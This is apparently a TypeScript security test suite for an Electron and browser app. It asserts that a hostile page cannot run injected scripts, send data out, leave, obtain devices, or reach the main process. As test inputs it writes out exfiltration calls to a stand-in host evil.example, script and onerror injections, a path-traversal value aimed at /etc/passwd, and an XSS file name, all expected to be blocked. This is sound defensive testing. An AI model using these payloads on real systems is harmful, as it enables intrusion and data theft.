/** A page that something hostile has got into, through both ways in: it cannot run more, send anything anywhere, leave, or ask for devices. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { methodNames } from '../../core/contracts/service-names.ts';
import { hostileStructures } from '../fuzz/hostile-structures.ts';
import { pack, unpack } from '../electron/stand-in/clone.ts';
import { isolatedWorld, wire } from '../electron/stand-in/in-page.ts';
import { describeHosts, freshHome, removeHomes, type OpenedHost } from '../journeys/hosts.ts';
import { answerTo, ask } from '../journeys/service.ts';
import { placesIn, rightInput, valueAt, withAt, type Known } from './inputs.ts';

afterAll(removeHomes);

describeHosts('a hostile page', (host) => {
  const home = freshHome();
  let opened: OpenedHost, page: Page, known: Known;
  /** Requests that have left for another place. */
  const left: string[] = [];

  beforeAll(async () => {
    opened = await host.open(home);
    page = opened.page;
    if (host.name === 'browser') {
      const own = new URL(opened.url!).origin;
      await page.context().route((url) => url.origin !== own, (route) => {
        left.push(route.request().url());
        return route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'window.hit = true' });
      });
    }
    const { id } = await ask(page, 'materials.addExample', { example: 'mgo' });
    known = { ids: { material: id, potential: 'mgo-lewis-catlow', run: 'none', trash: 'none', measurement: 'none' }, bytes: new TextEncoder().encode('nothing') };
  });
  afterAll(async () => { await opened.close(); });
  const gone = async (): Promise<string[]> => (opened.shell ? (await opened.shell.look()).left : left);
  const alive = async (): Promise<void> => {
    expect((await ask(page, 'application.state', {})).project).not.toBeNull();
    expect(await page.locator('h1').count()).toBe(1);
  };

  test('runs no script that did not come with the program', async () => {
    const found = await page.evaluate(async () => {
      const target = window as unknown as Record<string, unknown>;
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => { violated.push(event.effectiveDirective); });
      const add = (tag: string, set: (element: HTMLElement) => void): void => {
        const element = document.createElement(tag);
        set(element);
        document.body.append(element);
      };
      add('script', (element) => { element.textContent = 'window.inline = true'; });
      add('img', (element) => { element.setAttribute('src', 'data:image/png;base64,x'); element.setAttribute('onerror', 'window.handler = true'); });
      add('script', (element) => { element.setAttribute('src', 'https://evil.example/x.js'); });
      add('script', (element) => { element.setAttribute('src', URL.createObjectURL(new Blob(['window.blob = true'], { type: 'text/javascript' }))); });
      add('script', (element) => { element.setAttribute('src', 'data:text/javascript,window.data = true'); });
      const link = document.createElement('a');
      link.href = 'javascript:window.link = true';
      document.body.append(link);
      link.click();
      const tried: Record<string, string> = {};
      // What the tools of a developer start may evaluate text; what comes later may not.
      await new Promise((resolve) => setTimeout(resolve));
      for (const [name, work] of Object.entries({ eval: () => (0, eval)('1'), function: () => new Function('return 1')(), timer: () => setTimeout('window.timer = true'), worker: () => new Worker(URL.createObjectURL(new Blob(['1']))) })) {
        try { tried[name] = String(work() === undefined ? 'nothing' : 'done'); } catch { tried[name] = 'blocked'; }
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { hits: ['inline', 'handler', 'blob', 'data', 'link', 'timer', 'hit'].filter((name) => name in target), eval: tried['eval'], function: tried['function'], violated: [...new Set(violated)].sort() };
    });
    expect(found.hits).toEqual([]);
    expect([found.eval, found.function]).toEqual(['blocked', 'blocked']);
    expect(await page.evaluate("import('https://evil.example/x.mjs').then(() => 'done', () => 'blocked')")).toBe('blocked');
    expect(found.violated).toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem']));
    expect(await gone()).toEqual([]);
  });

  test('sends nothing to any other place', async () => {
    const tried = await page.evaluate(async () => {
      const outcome: Record<string, string> = {};
      const attempt = async (name: string, work: () => Promise<unknown>): Promise<void> => {
        outcome[name] = await Promise.race([work().then(() => 'done', () => 'blocked'), new Promise<string>((resolve) => setTimeout(() => { resolve('blocked'); }, 400))]);
      };
      const loaded = (tag: 'img' | 'iframe' | 'object' | 'link' | 'audio' | 'embed', set: (element: HTMLElement) => void) => (): Promise<void> => new Promise((resolve, reject) => {
        const element = document.createElement(tag);
        element.onload = () => { if (tag === 'iframe' || tag === 'object') reject(new Error()); else resolve(); };
        element.onerror = reject;
        set(element);
        document.body.append(element);
      });
      await Promise.all([
        attempt('fetch', () => fetch('https://evil.example/?secret')),
        attempt('no-cors', () => fetch('https://evil.example/?secret', { mode: 'no-cors' })),
        attempt('neighbour', () => fetch('http://127.0.0.1:1/')),
        attempt('picture', loaded('img', (element) => { element.setAttribute('src', 'https://evil.example/?secret'); })),
        attempt('frame', loaded('iframe', (element) => { element.setAttribute('src', 'https://evil.example/?secret'); })),
        attempt('object', loaded('object', (element) => { element.setAttribute('data', 'https://evil.example/?secret'); })),
        attempt('style', loaded('link', (element) => { element.setAttribute('rel', 'stylesheet'); element.setAttribute('href', 'https://evil.example/?secret'); })),
        attempt('sound', loaded('audio', (element) => { element.setAttribute('src', 'https://evil.example/?secret'); })),
        attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = resolve; socket.onerror = reject; })),
        attempt('events', () => new Promise((resolve, reject) => { const source = new EventSource('https://evil.example/'); source.onopen = resolve; source.onerror = reject; })),
      ]);
      navigator.sendBeacon('https://evil.example/', 'secret');
      const style = document.createElement('style');
      style.textContent = '@import url("https://evil.example/?secret"); body { background: url("https://evil.example/?secret"); }';
      document.head.append(style);
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      form.method = 'POST';
      document.body.append(form);
      form.submit();
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      outcome['base'] = new URL('x', document.baseURI).host === 'evil.example' ? 'done' : 'blocked';
      await new Promise((resolve) => setTimeout(resolve, 300));
      return outcome;
    });
    expect(Object.entries(tried).filter(([, how]) => how !== 'blocked')).toEqual([]);
    expect(await gone()).toEqual([]);
    await alive();
  });

  test('is given no device, no place and no notification', async () => {
    const answers = await page.evaluate(async () => {
      const outcome: Record<string, string> = {};
      const attempt = async (name: string, work: () => unknown): Promise<void> => {
        outcome[name] = await Promise.race([(async () => work())().then((value) => (value === 'denied' || value === undefined ? 'denied' : 'granted'), () => 'denied'), new Promise<string>((resolve) => setTimeout(() => { resolve('denied'); }, 400))]);
      };
      const { mediaDevices, usb, hid, serial, bluetooth, requestMIDIAccess } = navigator as unknown as Record<string, Record<string, (options?: object) => unknown> | undefined> & { requestMIDIAccess?: () => unknown };
      await Promise.all([
        attempt('camera', () => mediaDevices?.['getUserMedia']?.({ video: true })),
        attempt('microphone', () => mediaDevices?.['getUserMedia']?.({ audio: true })),
        attempt('place', () => new Promise((resolve, reject) => { navigator.geolocation.getCurrentPosition(() => { resolve('granted'); }, reject); })),
        attempt('usb', () => usb?.['requestDevice']?.({ filters: [] })), attempt('hid', () => hid?.['requestDevice']?.({ filters: [] })), attempt('serial', () => serial?.['requestPort']?.()), attempt('bluetooth', () => bluetooth?.['requestDevice']?.({ acceptAllDevices: true })),
        attempt('midi', () => requestMIDIAccess?.call(navigator)),
        ...(['camera', 'microphone', 'geolocation'] as const).map((name) => attempt(`state of ${name}`, async () => (await navigator.permissions.query({ name })).state)),
      ]);
      return outcome;
    });
    expect(Object.entries(answers).filter(([, how]) => how !== 'denied')).toEqual([]);
    if (opened.shell) {
      // Electron asks nobody: whatever its handlers do not refuse would be granted.
      expect(await page.evaluate(async () => [await Notification.requestPermission(), await navigator.clipboard.readText().catch(() => 'denied'), await document.body.requestFullscreen().then(() => 'granted', () => 'denied')])).toEqual(['denied', 'denied', 'denied']);
      expect((await opened.shell.look()).granted).toEqual([]);
    }
  });

  test('gets a refusal for every call that names a place outside', async () => {
    const seen: string[] = [];
    for (const method of methodNames.filter((name) => name !== 'project.choose')) {
      const right = rightInput(method, known);
      for (const place of placesIn(right).filter((one) => typeof valueAt(right, one) === 'string')) {
        const answer = await answerTo(page, method, withAt(right, place, '../../../../../../etc/passwd'));
        if ('failure' in answer) seen.push(`${method} ${place.join('.')}: ${answer.failure.sentence}`);
        if (JSON.stringify(answer).includes('root:')) seen.push(`${method} ${place.join('.')} has read it`);
      }
    }
    expect(seen).toEqual([]);
    expect(existsSync(join(home, 'etc'))).toBe(false);
    expect(readFileSync('/etc/passwd', 'utf8')).toMatch(/^root:/);
    await alive();
  });

  test('a hostile structure that is dropped ends in a sentence, and the program lives on', async () => {
    for (const { bytes } of hostileStructures.filter((_, k) => k % 8 === 0)) {
      const answer = await answerTo(page, 'materials.inspect', { file: { name: 'dropped.cif', bytes }, frame: 1, tolerance: 1e-4 });
      expect('refusal' in answer && answer.refusal.sentence).toMatch(/^[^\n]{20,700}\.$/);
    }
    await page.evaluate(() => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([`data_x\n_cell_length_a ${'9'.repeat(5000)}\nloop_\n_atom_site_label\n`, '<img src=x onerror="window.dropped = true">\n'.repeat(100)], '<img src=x onerror="window.dropped=true">.cif'));
      document.querySelector('.frame')!.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    });
    await page.waitForURL(/\/materials/);
    await page.getByRole('alert').getByText(/the data block \(data_x\) holds no positions of atoms/).waitFor();
    await page.keyboard.press('Escape');
    await alive();
    expect(await page.evaluate(() => 'dropped' in window)).toBe(false);
    expect(await gone()).toEqual([]);
  });

  if (host.name === 'shell') {
    test('does not leave, opens no window and attaches no foreign view', async () => {
      const { shell } = opened;
      const before = page.url();
      for (const away of ['https://evil.example/', 'http://127.0.0.1:1/', 'file:///etc/passwd', 'app://evil/', 'data:text/html,x']) {
        await page.evaluate((url) => { try { window.location.href = url; } catch { /* refused at once */ } }, away.replace(/^app:\/\/(\w+)\//, 'http://$1.app.localhost/'));
        await page.waitForTimeout(80);
        expect(page.url(), away).toBe(before);
      }
      await page.evaluate(() => { window.open('https://evil.example/'); const link = document.createElement('a'); link.href = 'https://evil.example/'; link.target = '_blank'; document.body.append(link); link.click(); });
      await page.waitForTimeout(200);
      const seen = await shell!.look();
      expect([seen.opened, seen.left, seen.external, seen.windows.length]).toEqual([[], [], [], 1]);
      expect(await shell!.act('attachWebview')).toBe(true);
      await alive();
    });

    test('reaches the main process from no frame but its own', async () => {
      const session = await page.context().newCDPSession(page);
      await page.evaluate(() => { const frame = document.createElement('iframe'); frame.id = 'inside'; frame.srcdoc = '<p>x'; document.body.append(frame); return new Promise((resolve) => { frame.onload = resolve; }); });
      // The bridge is not in it, and the page's own function is not lent to it without its frame.
      expect(await page.evaluate(() => 'phonolite' in (document.querySelector<HTMLIFrameElement>('#inside')!.contentWindow as unknown as object))).toBe(false);
      // Whoever has taken over its process can still send what they like: the main process looks where it comes from.
      const { frameTree } = await session.send('Page.getFrameTree');
      const inside = frameTree.childFrames!.at(-1)!.frame.id;
      const said = async (frameId: string, channel: string): Promise<unknown> => {
        const { executionContextId } = await session.send('Page.createIsolatedWorld', { frameId, worldName: isolatedWorld });
        const asked = pack({ kind: 'invoke', id: 1, channel, given: [{}] });
        const { result } = await session.send('Runtime.evaluate', {
          contextId: executionContextId, awaitPromise: true,
          expression: `new Promise((resolve) => { Object.defineProperty(globalThis, 'standInDeliver', { value: resolve, configurable: true }); ${wire}(${JSON.stringify(asked)}); })`,
        });
        return unpack(result.value as string);
      };
      for (const method of ['application.state', 'materials.list', 'trash.empty']) expect(await said(inside, `phonolite:call:${method}`), method).toMatchObject({ value: { refusal: { code: 'service.sender' } } });
      expect(await said(inside, 'phonolite:call:nothing')).toMatchObject({ error: expect.stringContaining('No handler registered') as string });
      // The same from the main frame is answered: it was the frame that decided.
      expect(await ask(page, 'materials.list', {})).toHaveLength(1);
      await session.detach();
    });
  }
});
